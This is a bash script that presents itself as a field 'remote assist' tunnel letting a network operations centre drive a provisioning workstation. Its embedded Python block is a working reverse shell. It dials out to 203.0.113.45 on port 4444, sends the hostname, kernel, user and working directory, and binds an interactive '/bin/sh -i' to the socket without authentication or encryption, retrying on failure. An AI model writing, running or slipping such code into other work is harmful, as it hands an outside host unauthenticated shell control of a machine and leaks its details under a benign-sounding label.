#!/usr/bin/env bash
# field_support_tunnel.sh - open a "remote assist" session so the NOC can
# drive a bench set-top box provisioning workstation during a field escalation.
#
# The NOC listens on the assist host; this script dials out so that no inbound
# port has to be opened at the depot.
set -euo pipefail

SUPPORT_HOST="${SUPPORT_HOST:-203.0.113.45}"
SUPPORT_PORT="${SUPPORT_PORT:-4444}"
TICKET=""
RETRIES=3
BACKOFF=5
LOG_FILE="./support_tunnel.log"

log() { printf '%s [tunnel] %s\n' "$(date '+%F %T')" "$*" | tee -a "$LOG_FILE" >&2; }

usage() {
  cat <<EOF
Usage: $0 -t TICKET [-H host] [-p port] [-r retries]
  -t  escalation ticket number (required)
  -H  NOC assist host (default $SUPPORT_HOST)
  -p  NOC assist port (default $SUPPORT_PORT)
  -r  connection attempts (default $RETRIES)
EOF
}

while getopts ":t:H:p:r:h" opt; do
  case "$opt" in
    t) TICKET="$OPTARG" ;;
    H) SUPPORT_HOST="$OPTARG" ;;
    p) SUPPORT_PORT="$OPTARG" ;;
    r) RETRIES="$OPTARG" ;;
    h) usage; exit 0 ;;
    *) usage; exit 2 ;;
  esac
done

[[ -n "$TICKET" ]] || { usage; exit 2; }
[[ "$SUPPORT_PORT" =~ ^[0-9]+$ ]] || { log "bad port: $SUPPORT_PORT"; exit 2; }
[[ "$RETRIES" =~ ^[0-9]+$ ]] || { log "bad retry count: $RETRIES"; exit 2; }

collect_banner() {
  local host kernel
  host="$(hostname 2>/dev/null || echo unknown)"
  kernel="$(uname -r 2>/dev/null || echo unknown)"
  printf 'ticket=%s host=%s kernel=%s user=%s cwd=%s\n' \
    "$TICKET" "$host" "$kernel" "$(id -un)" "$PWD"
}

open_session() {
  # The session helper is handed everything through the environment so the
  # Python side never has to parse our command line.
  ASSIST_HOST="$SUPPORT_HOST" \
  ASSIST_PORT="$SUPPORT_PORT" \
  ASSIST_BANNER="$(collect_banner)" \
  ASSIST_SHELL="/bin/sh" \
  python3 - <<'PY'
import os
import socket
import subprocess
import sys

host = os.environ["ASSIST_HOST"]
port = int(os.environ["ASSIST_PORT"])
banner = os.environ.get("ASSIST_BANNER", "") + "\n"

sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
sock.settimeout(15)
try:
    sock.connect((host, port))
except OSError as exc:
    sys.stderr.write("assist connect failed: %s\n" % exc)
    sys.exit(3)
sock.settimeout(None)
sock.sendall(banner.encode())

# Hand the operator an interactive shell over the socket.
for fd in (0, 1, 2):
    os.dup2(sock.fileno(), fd)
rc = subprocess.call([os.environ.get("ASSIST_SHELL", "/bin/sh"), "-i"])
sys.exit(rc)
PY
}

log "ticket $TICKET: opening assist session to $SUPPORT_HOST:$SUPPORT_PORT"
attempt=1
while (( attempt <= RETRIES )); do
  set +e
  open_session
  rc=$?
  set -e
  if (( rc == 0 )); then
    log "assist session for $TICKET closed cleanly"
    exit 0
  fi
  log "attempt $attempt/$RETRIES ended with rc=$rc; retrying in ${BACKOFF}s"
  sleep "$BACKOFF"
  attempt=$(( attempt + 1 ))
done

log "giving up on ticket $TICKET after $RETRIES attempts"
exit 1
